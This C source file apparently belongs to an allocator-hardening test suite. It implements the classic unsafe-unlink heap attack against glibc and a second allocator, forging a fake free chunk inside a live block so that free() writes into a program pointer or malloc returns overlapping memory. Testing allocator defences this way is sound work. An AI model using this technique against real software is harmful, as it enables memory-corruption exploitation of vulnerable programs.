/* unlink: the classic unsafe unlink. Forge a free chunk inside a live block
 * and make the allocator merge the next chunk with it, so that taking the
 * fake chunk off its list writes through its forged links.
 *
 * Goal: the allocator writes into the program's own pointer variable
 * (gp[3], which holds A), or a later malloc returns memory overlapping the
 * live block A.
 *
 * A (264 bytes) is followed by B (1264 bytes, a 1280-byte chunk: too big
 * for glibc's per-thread cache) and a guard. Inside A the attacker builds a
 * free chunk that ends where B's chunk begins: a header with its size (and,
 * for slz, the check word copied from A's own header), links pointing just
 * below gp[3] so that each points back at the fake (glibc's check), and its
 * size again where the allocator looks for the size of the chunk below B
 * (glibc: the word below B's size word; slz: the free chunk's foot, the last
 * word before B's header). One byte past A, B's flag saying "the chunk
 * below is in use" is cleared. Then free(B), and malloc(256).
 *   unlink          (no arguments)
 */
#include "attacks.h"

static char *gp[4];

int main(void)
{
    char *a = opaque(malloc(264)), *b = opaque(malloc(1264)), *guard = opaque(malloc(40));
    enum atk_layout l = need_layout(a, b);
    gp[3] = a;
    uintptr_t *w = (uintptr_t *)a;
    uintptr_t fsize = (uintptr_t)(chunk_of(b) - a); /* the fake chunk begins at a */
    uintptr_t *hb = size_word(b, l);
    if (l == LAYOUT_GLIBC) {
        w[0] = 0;     /* prev_size */
        w[1] = fsize; /* size, "previous in use" */
        w[2] = (uintptr_t)&gp[0];
        w[3] = (uintptr_t)&gp[1];
        hb[-1] = fsize;  /* B's prev_size */
        *hb &= ~(uintptr_t)1;
    } else {
        uintptr_t flags = *size_word(a, l) & flag_bits(l);
        w[0] = fsize | (flags & 2); /* size, "previous in use" kept, "in use" clear */
        w[1] = ((uintptr_t *)a)[-1]; /* a check word read below A */
        w[2] = (uintptr_t)&gp[0];
        w[3] = (uintptr_t)&gp[1];
        w[4] = (uintptr_t)&gp[0];
        hb[-1] = fsize; /* the foot: the last word of A's payload */
        *hb &= ~(uintptr_t)2; /* one byte past A: "the chunk below is in use" cleared */
    }
    free(b);
    if (gp[3] != a)
        reached("free(B) wrote %p into the program's pointer gp[3] at %p (it held A, %p)", (void *)gp[3],
                (void *)&gp[3], (void *)a);
    char *d = opaque(malloc(256));
    if (d && overlap(d, 256, a, 264))
        reached("malloc(256) returned %p, overlapping the live block A at %p", (void *)d, (void *)a);
    opaque(guard);
    not_reached("gp[3] kept its value and malloc(256) returned %p, clear of A at %p", (void *)d, (void *)a);
}
